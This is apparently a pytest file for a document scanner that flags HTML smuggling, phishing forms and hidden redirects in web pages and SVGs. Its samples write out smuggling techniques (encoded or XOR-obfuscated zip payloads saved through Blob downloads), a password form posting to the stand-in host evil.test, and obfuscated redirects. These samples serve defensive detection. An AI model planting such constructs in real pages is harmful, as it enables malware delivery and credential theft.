"""Pages as files: the attack beside the saved page, the invoice and the report."""

import base64
import html
import random
import tracemalloc
import zipfile
from html.entities import html5

import pytest
from tests.files.archive_formats import zipped

from gatepost.files.documents import dispatch
from gatepost.files.documents.page_scripts import replace_references
from gatepost.files.values import Contents, File, UnpackBudget

ARCHIVE = zipped("invoice.js", b"x()" * 100, zipfile.ZIP_STORED)
ZIP = base64.b64encode(ARCHIVE).decode()
SECRET = base64.b64encode(bytes(byte ^ place * 7 & 0xFF for place, byte in enumerate(ARCHIVE))).decode()
PAGE = base64.b64encode(
    b"<html><body><form action='https://evil.test'><input type=password></form>" + b" " * 99
).decode()
FORM = {"page-form", "page-password-field"}
PICTURE = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(200)).decode()
FONT = base64.b64encode(b"wOF2" + bytes(200)).decode()
VALUES = ",".join("0.5" for _ in range(300))
SAVE_CHART = "function s() { a.href = URL.createObjectURL(new Blob([svg])); a.download = 'chart.svg'; }"
SAVE = "var b = new Blob([u]); a.href = URL.createObjectURL(b); a.download = 'invoice.zip'; a.click();"


def contents(text: str, kind: str = "html") -> Contents:
    return dispatch.inspect(File("1", text.encode(), kind, "0" * 64, ("page.html",)), UnpackBudget())


def seen(text: str, kind: str = "html") -> set[str]:
    """Traits but that of a script which did not run to its end, as one that calls a function of nobody."""
    return {trait.name for trait in contents(text, kind).traits} - {"script-unfinished"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"<script>var u = atob('{ZIP}'); {SAVE}</script>", {"page-script", "smuggling"}),
        (f"<script>var u = x(atob('{SECRET}')); {SAVE}</script>", {"page-script", "smuggling"}),
        (f"<script>var u = atob('{ZIP[:40]}\u00a0\u3000{ZIP[40:]}'); {SAVE}</script>", {"page-script", "smuggling"}),
        (f"<script>var u = f([{','.join(map(str, ARCHIVE))}]); {SAVE}</script>", {"page-script", "smuggling"}),
        (f"<script>var u = f('{ARCHIVE.hex()}'); {SAVE}</script>", {"page-script", "smuggling"}),
        (
            f"<a href='data:application/zip;base64,{ZIP}' id=a></a><script>a.click(); a.download = 'a.zip'</script>",
            {"page-script", "smuggling", "page-data-link"},
        ),
        (
            f"<a href='&#100;ata:application/zip;base64,{ZIP}' id=a></a><script>a.click(); a.download = ''</script>",
            {"page-script", "smuggling", "page-data-link"},
        ),
        (f"<script>document.write(atob('{PAGE}'))</script>", {"page-script", "written-page", *FORM}),
        (
            f"<script>document.write(unescape('{''.join(f'%{byte:02x}' for byte in b'<html><form>' * 20)}'))</script>",
            {"page-script", "written-page", "page-form"},
        ),
        # A saved page: pictures, fonts and scripts that fetch, none that saves.
        (
            f"<html><img src='data:image/png;base64,{PICTURE}'><script src='https://a.test/x.js'></script>",
            {"page-script"},
        ),
        # A report that draws a chart and can save it as a picture.
        (
            f"<script>var data = [{VALUES}]; var logo = 'data:image/png;base64,{PICTURE}'; {SAVE_CHART}</script>",
            {"page-script"},
        ),
        (f"<script>var font = atob('{FONT}'); {SAVE}</script>", {"page-script"}),
        ("<html><body><h1>Invoice 17</h1><table><tr><td>Total</td><td>12.00</td></tr></table>", set()),
        ("<script type='application/ld+json'>{}</script>", set()),
    ],
    ids=range(14),
)
def test_pages(text: str, expected: set[str]) -> None:
    assert seen(text) == expected


def test_what_a_script_holds_is_a_file() -> None:
    assert ARCHIVE in [member.content for member in contents(f"<script>atob('{ZIP}'); {SAVE}</script>").members]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<svg xmlns='x'><script>location = 'https://evil.test'</script></svg>", {"page-svg-script"}),
        ("<svg xmlns='x'><circle r='3'/></svg>", set()),
    ],
)
def test_pictures(text: str, expected: set[str]) -> None:
    assert seen(text, "svg") == expected


def test_a_page_within_an_archive_gives_its_links() -> None:
    text = b"<a href='https://a.test/'>x</a>"
    inner = dispatch.inspect(File("1/a.zip/p.html", text, "html", "0" * 64, ("p.html",)), UnpackBudget())
    outer = dispatch.inspect(
        File("1/p.html", text, "html", "0" * 64, ("p.html",), "text/html", shown=True), UnpackBudget()
    )
    assert [link.host for link in inner.links] == ["a.test"]
    assert outer.links == ()  # read with the message


@pytest.mark.parametrize("piece", ["'", '"\\', "data:application/x;base64,", "[1,", "%41", "<script>", "atob('A"])
def test_no_page_costs_more_than_linear_time(piece: str) -> None:
    assert isinstance(contents("<script>atob()" + piece * 100_000), Contents)


N = 1_200_000


@pytest.mark.parametrize(
    ("literal", "marks"),
    [
        pytest.param("A" * N, "''", id="base64"),
        pytest.param("41" * (N // 2), "''", id="hexadecimal"),
        pytest.param("%41" * (N // 3), "''", id="percent"),
        pytest.param("\\x41" * (N // 4), "''", id="escapes", marks=pytest.mark.variant),
        pytest.param("QUJD\\n" * (N // 6), "''", id="line ends", marks=pytest.mark.variant),
        pytest.param("','" * (N // 3), "[]", id="texts", marks=pytest.mark.variant),
        pytest.param("65," * (N // 3), "[]", id="numbers", marks=pytest.mark.variant),
        pytest.param("65," * (N // 3), "()", id="arguments", marks=pytest.mark.variant),
    ],
)
def test_giant_literals_cost_little_memory(literal: str, marks: str) -> None:
    """Each is read with a few copies of its text; anything that costs memory for each character would show."""
    page = f"<script>var u = atob({marks[0]}{literal}{marks[1]}); {SAVE}</script>"
    contents("<script>atob('x')</script>")
    tracemalloc.start()
    try:
        contents(page)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 16 * N


@pytest.mark.parametrize("size", [100, 59_999, 60_000, 60_001, 200_000])
@pytest.mark.parametrize("form", ["decimal", "hexadecimal", "percent"])
def test_chunks_lose_nothing(form: str, size: int) -> None:
    content = bytes(32 + place * 7 % 220 for place in range(size))
    literal = {
        "decimal": "[" + ", ".join(map(str, content)) + "]",
        "hexadecimal": "[" + ",".join(map(hex, content)) + "]",
        "percent": "'" + "".join(f"%{byte:02x}" for byte in content) + "'",
    }[form]
    members = contents(f"<script>var u = unescape({literal}); {SAVE}</script>").members
    assert content in [member.content for member in members]


def test_references_are_those_of_html() -> None:
    chosen = random.Random(4711)
    pieces = [f"&{name}" for name in html5]
    assert all(replace_references(f"{each}x") == html.unescape(f"{each}x") for each in pieces)
    pieces = [*chosen.sample(pieces, 200), *"& # &# &#x 1 9 ff ; a notit &&b < =".split()]
    for _ in range(3_000):
        text = "".join(chosen.choices(pieces, k=chosen.randrange(8)))
        assert replace_references(text) == html.unescape(text)


def test_a_script_between_two_libraries_is_read() -> None:
    library = "function f(){return [1,2,3].map(x=>x*x)}" * 3_000
    target = "var h='ev'+'il.test';no.where.at.all();location.href='https://'+h+'/x'"
    page = f"<html><script>{library}</script><script>{target}</script><script>{library}</script>"
    assert "hidden-redirect" in seen(page)


def test_a_script_reads_the_text_of_a_long_one() -> None:
    code = f"/*{'.' * 30_000}|{SECRET}|*/"
    reading = (
        "var t=document.scripts[0].textContent.split('|')[1],r=atob(t),u=new Uint8Array(r.length);"
        f"for(var i=0;i<r.length;i++)u[i]=r.charCodeAt(i)^i*7&255;var a=document.createElement('a');{SAVE}"
    )
    found = contents(f"<html><script>{code}</script><script>{reading}</script>")
    assert ARCHIVE in [member.content for member in found.members]
